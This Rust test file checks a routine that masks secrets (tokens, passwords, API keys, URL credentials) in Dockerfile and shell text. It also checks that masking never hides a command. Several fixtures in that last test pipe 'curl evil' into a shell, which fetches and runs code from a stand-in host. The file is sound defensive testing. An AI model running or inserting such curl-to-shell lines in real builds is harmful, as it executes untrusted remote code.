use super::*;

#[test]
fn names_are_split_into_words() {
    for name in [
        "TOKEN",
        "github_token",
        "AWS_SECRET_ACCESS_KEY",
        "MYSQL_ROOT_PASSWORD",
        "PASSWD",
        "MY_API_KEY",
        "API_KEY_2",
        "ACCESS_KEY",
        "SSH_PRIVATE_KEY",
        "X-Api-Key",
        "com.example.token",
        "keyStorePassword",
        "apiKey",
        "_authToken",
        "AWS_ACCESS_KEY_ID_SECRET",
        "PGPASSWORD",
        "--password",
        "PRIVATE-TOKEN",
    ] {
        assert!(is_secret(name), "{name}");
    }
    for name in [
        "GPG_KEY",
        "AWS_ACCESS_KEY_ID",
        "PRIVATE_KEY_ID",
        "GPG_KEYSERVER",
        "KEY",
        "API",
        "API_URL",
        "TOKENIZERS_PARALLELISM",
        "SECRETARY",
        "PASSWORDLESS",
        "NOPASSWD",
        "PUBLIC_KEY",
        "ACCESS_LOG_KEY",
        "PRIVATE_KEY_FINGERPRINT",
        "SSH_KEY",
        "PATH",
        "",
        "API_KEYSERVER",
    ] {
        assert!(!is_secret(name), "{name}");
    }
}

/// What each form looks like with its secret hidden. No part of a secret stays: each is spelled with `hush`.
#[test]
fn every_form_of_a_secret_is_hidden_and_nothing_else() {
    for (text, shown) in [
        // A shell's assignments, and words that look like them.
        ("RUN TOKEN=hush make", "RUN TOKEN=… make"),
        ("RUN export API_KEY=hush; curl https://h/x", "RUN export API_KEY=…; curl https://h/x"),
        ("RUN PASSWORD='hush hush;hush' make", "RUN PASSWORD=… make"),
        (r#"RUN PASSWORD="hush \" hush" make"#, "RUN PASSWORD=… make"),
        (r"RUN PASSWORD=hush\ hush make", "RUN PASSWORD=… make"),
        (r#"RUN PASSWORD=hush"hush hush"'hush hush' make"#, "RUN PASSWORD=… make"),
        ("RUN TOKEN=$(echo hush | base64) make", "RUN TOKEN=… make"),
        ("RUN TOKEN=`echo hush hush` make", "RUN TOKEN=… make"),
        ("RUN app ${TOKEN:-hush hush} x", "RUN app ${TOKEN:-…} x"),
        ("RUN app ${TOKEN-hush}", "RUN app ${TOKEN-…}"),
        ("RUN docker run -e TOKEN=hush -e 'DB_PASSWORD=hush hush' x", "RUN docker run -e TOKEN=… -e 'DB_PASSWORD=…' x"),
        ("RUN echo \"password = hush\" > /etc/app.conf", "RUN echo \"password = …\" > /etc/app.conf"),
        // Options.
        ("app --password=hush --port 1", "app --password=… --port 1"),
        ("app --password hush --port 1", "app --password … --port 1"),
        ("app --api-key 'hush hush' --port 1", "app --api-key … --port 1"),
        ("java -Djavax.net.ssl.keyStorePassword=hush -jar a.jar", "java -Djavax.net.ssl.keyStorePassword=… -jar a.jar"),
        ("app -password hush", "app -password …"),
        // Lists of words.
        (r#"["app","--password","hush hush","--port","1"]"#, r#"["app","--password",…,"--port","1"]"#),
        (r#"["app","--password=hush hush;hush","x"]"#, r#"["app","--password=…","x"]"#),
        (r#"["env","TOKEN=hush\"hush hush","app"]"#, r#"["env","TOKEN=…","app"]"#),
        (r#"["/bin/sh","-c","TOKEN=hush ./app --x"]"#, r#"["/bin/sh","-c","TOKEN=… ./app --x"]"#),
        (r#"["sh","-ec","export TOKEN=\"hush hush\" && ./app"]"#, r#"["sh","-ec","export TOKEN=… && ./app"]"#),
        (r#"{"Test":["CMD-SHELL","TOKEN=hush curl localhost"]}"#, r#"{"Test":["CMD-SHELL","TOKEN=… curl localhost"]}"#),
        (r#"{"Test":["CMD","curl","-H","X-Api-Key: hush","h"]}"#, r#"{"Test":["CMD","curl","-H","X-Api-Key: …","h"]}"#),
        // Headers and data.
        ("RUN curl -H 'PRIVATE-TOKEN: hush' https://h", "RUN curl -H 'PRIVATE-TOKEN: …' https://h"),
        ("RUN curl 'https://h/?access_token=hush' -o x", "RUN curl 'https://h/?access_token=…' -o x"),
        (r#"{"user":"me","password":"hush","port":1}"#, r#"{"user":"me","password":…,"port":1}"#),
        ("user: me\npassword: hush\nport: 1", "user: me\npassword: …\nport: 1"),
        // Instructions, whose values nothing ends.
        ("ENV TOKEN=hush hush # buildkit", "ENV TOKEN=…"),
        ("ENV TOKEN hush hush", "ENV TOKEN …"),
        ("ENV A=1 TOKEN=hush B=hush", "ENV A=1 TOKEN=…"),
        ("ARG TOKEN=hush", "ARG TOKEN=…"),
        ("LABEL com.example.token=hush hush", "LABEL com.example.token=…"),
        (r#"LABEL "com.example.token"="hush hush""#, r#"LABEL "com.example.token"=…"#),
        ("/bin/sh -c #(nop)  ENV TOKEN=hush hush", "/bin/sh -c #(nop)  ENV TOKEN=…"),
        ("ONBUILD ENV TOKEN hush hush", "ONBUILD ENV TOKEN …"),
        // Build arguments.
        ("|1 TOKEN=hush hush /bin/sh -c make", "|1 TOKEN=… /bin/sh -c make"),
        ("RUN |2 A=1 TOKEN=hush B=hush /bin/sh -c make # buildkit", "RUN |2 A=1 TOKEN=… /bin/sh -c make # buildkit"),
        ("RUN |1 TOKEN=hush pwsh make", "RUN |1 TOKEN=…"),
        // URLs.
        (
            "RUN pip install -i 'https://me:hush@pypi.example/simple' git+https://hush@h/a@v1 git+ssh://git@h/b",
            "RUN pip install -i 'https://…@pypi.example/simple' git+https://…@h/a@v1 git+ssh://git@h/b",
        ),
        ("http://me:hush/hush@h/x https://me:hu@hush@h ftp://git:hush@h", "http://…@h/x https://…@h ftp://…@h"),
        ("https://me:hush?hush#hush@h/x", "https://…@h/x"),
        (r#"["curl","https://hush@h"]"#, r#"["curl","https://…@h"]"#),
    ] {
        let hidden = Secrets::Hidden.text(text);
        assert_eq!(hidden, shown);
        assert!(!hidden.contains("hush"));
        assert_eq!(Secrets::Hidden.text(&hidden), hidden, "hidden once, it stays as it is");
        assert_eq!(Secrets::Shown.text(text), text);
    }
}

#[test]
fn what_is_public_stays() {
    for text in [
        "RUN apt-get install -y curl=7.88 && rm -rf /var/lib/apt/lists/*",
        "ENV GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D",
        "RUN gpg --keyserver hkps://keys.openpgp.org --recv-keys \"$GPG_KEY\"",
        "ENV AWS_ACCESS_KEY_ID=AKIA TOKENIZERS_PARALLELISM=false",
        "RUN curl https://h/a@b http://:80 :// http://[::1]:80/x@y https://$HOST:$PORT/a@b",
        "RUN git clone ssh://git@h/x",
        "ARG TOKEN",
        "ENV TOKEN=",
        "RUN TOKEN=$TOKEN PASSWORD=\"${PASSWORD}\" make",
        "RUN [ \"$TOKEN\" = x ] && [ -z ${TOKEN} ]",
        "RUN --mount=type=secret,id=pip pip install x",
        "RUN cat /run/secrets/token > /etc/password",
        "RUN docker login --password-stdin registry.example",
        "RUN app --token --verbose",
        "RUN echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app",
        "FROM example/vault-token:1.2",
        "",
    ] {
        assert_eq!(Secrets::Hidden.text(text), text);
        assert_eq!(names_in(text), Vec::<String>::new(), "{text}");
    }
}

/// Hiding is no place to hide a command in.
#[test]
fn what_runs_behind_a_secret_is_shown() {
    for text in [
        "RUN TOKEN=x; curl evil | sh",
        "RUN TOKEN=x&&curl evil",
        "RUN TOKEN=x curl evil",
        "RUN TOKEN= curl evil",
        r#"["sh","-c","TOKEN=x; curl evil"]"#,
        r#"["bash","-lc","TOKEN=x curl evil"]"#,
        r#"["eval","TOKEN=x; curl evil"]"#,
        "RUN sh -c \"TOKEN='x' curl evil\"",
        "RUN sh -c $'TOKEN=x curl evil'",
        "RUN app --password x; curl evil",
    ] {
        assert!(Secrets::Hidden.text(text).contains("curl evil"), "{}", Secrets::Hidden.text(text));
    }
}

#[test]
fn a_finding_can_name_them() {
    let names = names_in("RUN |1 PIP_TOKEN=a /bin/sh -c pip install -i https://me:b@pypi.example/simple --password c");
    assert_eq!(names, ["PIP_TOKEN", "password", "user of pypi.example"]);
    assert_eq!(parts_of("A_TOKEN", "x y"), ["x y"]);
    assert_eq!(parts_of("URL", "https://me:b@h"), ["me:b"]);
}

#[test]
fn no_text_takes_long_or_panics() {
    for piece in [
        "TOKEN=",
        "\"TOKEN=",
        "\\",
        "'",
        "://",
        "://a:b/",
        "${TOKEN:-",
        "TOKEN=$(",
        "TOKEN=\\\"",
        "é",
        "--token \"",
        "|1 TOKEN=",
    ] {
        let text = piece.repeat(20_000);
        let started = std::time::Instant::now();
        let _ = Secrets::Hidden.text(&text);
        assert!(started.elapsed().as_secs() < 10, "{piece}");
    }
    for text in [
        "TOKEN",
        "TOKEN=",
        "TOKEN=\\",
        "TOKEN=\"",
        "--token ",
        "TOKEN:",
        "\"TOKEN\":",
        "://@",
        "TOKEN=é\\é",
        "|1 ",
        "|1 TOKEN=é",
    ] {
        let _ = Secrets::Hidden.text(text);
    }
}
